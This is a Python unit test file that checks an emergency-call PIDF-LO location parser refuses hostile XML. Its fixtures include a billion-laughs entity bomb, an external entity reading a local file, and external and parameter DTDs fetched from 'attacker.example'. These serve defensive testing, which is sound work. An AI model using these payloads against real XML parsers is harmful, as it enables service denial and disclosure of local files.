"""Hostile PIDF-LO documents are refused before anything is expanded or fetched."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from emscad.errors import InvalidInput
from emscad.intake.pidf import MAX_PIDF_BYTES, parse_pidf
from tests.unit.intake import pidf_samples as doc

NOW = datetime(2026, 7, 6, 22, 20, tzinfo=UTC)

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE presence [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<presence xmlns="urn:ietf:params:xml:ns:pidf">&lol9;</presence>"""


def external_entity(path: Path) -> str:
    return f"""<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY secret SYSTEM "file://{path}">]>
<presence xmlns="urn:ietf:params:xml:ns:pidf"
          xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10"
          xmlns:ca="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr">
  <tuple id="t"><status><gp:geopriv><gp:location-info>
    <ca:civicAddress><ca:NAM>&secret;</ca:NAM></ca:civicAddress>
  </gp:location-info></gp:geopriv></status></tuple>
</presence>"""


EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE presence SYSTEM "http://attacker.example/evil.dtd">
<presence xmlns="urn:ietf:params:xml:ns:pidf"/>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<presence xmlns="urn:ietf:params:xml:ns:pidf"/>"""


def test_billion_laughs_is_refused() -> None:
    with pytest.raises(InvalidInput, match="DTD or entities"):
        parse_pidf(BILLION_LAUGHS, received_at=NOW)


def test_an_external_entity_never_reads_the_file(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET")
    with pytest.raises(InvalidInput, match="DTD or entities") as caught:
        parse_pidf(external_entity(secret), received_at=NOW)
    assert "TOP SECRET" not in str(caught.value)


@pytest.mark.parametrize("document", [EXTERNAL_DTD, PARAMETER_ENTITY])
def test_external_dtds_are_refused(document: str) -> None:
    with pytest.raises(InvalidInput, match="DTD or entities"):
        parse_pidf(document, received_at=NOW)


def test_an_oversized_document_is_refused_before_parsing() -> None:
    padding = "<!--" + "x" * MAX_PIDF_BYTES + "-->"
    document = doc.POINT.replace("<dm:device", padding + "<dm:device", 1)
    with pytest.raises(InvalidInput, match="larger than 64 KiB"):
        parse_pidf(document, received_at=NOW)


def test_the_size_cap_counts_bytes_not_characters() -> None:
    # 30,000 three-byte characters are 90 KB on the wire.
    document = doc.POINT.replace("GPS", "€" * 30_000)
    with pytest.raises(InvalidInput, match="larger than"):
        parse_pidf(document, received_at=NOW)


def test_a_document_just_under_the_cap_is_read() -> None:
    room = MAX_PIDF_BYTES - len(doc.POINT.encode()) - len("<!---->")
    document = doc.POINT.replace("<dm:device", "<!--" + "x" * room + "--><dm:device", 1)
    assert len(document.encode()) == MAX_PIDF_BYTES
    assert parse_pidf(document, received_at=NOW).has_point
